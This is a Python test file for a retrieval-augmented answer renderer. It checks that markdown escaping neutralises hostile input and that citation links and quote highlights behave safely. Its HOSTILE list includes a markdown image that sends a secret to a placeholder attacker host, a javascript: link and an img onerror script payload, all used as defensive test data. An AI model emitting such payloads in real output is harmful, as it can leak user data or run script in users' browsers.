"""Escaped Markdown renders to exactly the text it came from: checked with a real CommonMark parser."""

import html

import pytest
from markdown_it import MarkdownIt

from rag.render import answer_markdown, escape_markdown, quote_in_context

HOSTILE = [
    "![x](http://attacker/?q=secret)",
    "[click](javascript:alert(1)) and <img src=x onerror=alert(1)>",
    "# not a heading\n- not a list\n1. not a list\n> not a quote\n    not code",
    "**bold** _em_ `code` ~~strike~~ | a | table |",
    ":red[colour] :material/home: $x^2$ \\ backslash",
    "<https://autolink.example> www.example.com http://bare.example",
]


def rendered(markdown: str) -> str:
    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)


@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_text_has_no_markup(text):
    out = rendered(escape_markdown(text))
    assert "<img" not in out and "<a " not in out and "<h1" not in out and "<li" not in out
    assert "<code" not in out and "<strong" not in out and "<table" not in out and "<blockquote" not in out


@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_text_reads_as_the_original(text):
    out = html.unescape(rendered(escape_markdown(text)).replace("<p>", "").replace("</p>", "").replace("<br />", ""))
    out = out.replace("\u2060", "")  # the invisible joiners that keep URLs from being linked
    assert " ".join(out.split()) == " ".join(text.split())


def test_bare_urls_and_addresses_cannot_be_linkified():
    out = rendered(escape_markdown("http://a.example/x www.b.example c@d.example"))
    assert "://a" not in out and "www.b" not in out and "c@d" not in out  # a joiner sits inside each


def test_only_known_markers_become_links():
    md = answer_markdown("Claim [1]. Bogus [9]. ![x](http://a/b)", {1}, message_index=3)
    out = rendered(md)
    assert out.count("<a ") == 1 and 'href="#source-3-1"' in out and "[9]" in out and "<img" not in out


def test_quote_in_context_highlights_by_offsets_and_fails_closed():
    text = "Headline\nFirst sentence. The cited one. Last one.\nNext paragraph."
    start = text.index("The cited")
    ctx = quote_in_context(text, start, start + 14, "The cited one.")
    assert (ctx.before, ctx.quote, ctx.after) == ("First sentence. ", "The cited one.", " Last one.")
    assert ":orange-background[The cited one\\.]" in ctx.markdown()
    assert quote_in_context(text, start + 1, start + 15, "The cited one.") is None  # offsets do not match
    assert quote_in_context(text, start, len(text) + 5, "The cited one.") is None
    assert quote_in_context("changed article", 0, 5, "The c") is None


def test_long_paragraphs_are_trimmed_around_the_quote():
    text = "word " * 500 + "THE QUOTE." + " tail" * 500
    start = text.index("THE QUOTE.")
    ctx = quote_in_context(text, start, start + 10, "THE QUOTE.")
    assert ctx.before.startswith("…") and ctx.after.endswith("…") and len(ctx.before) < 400
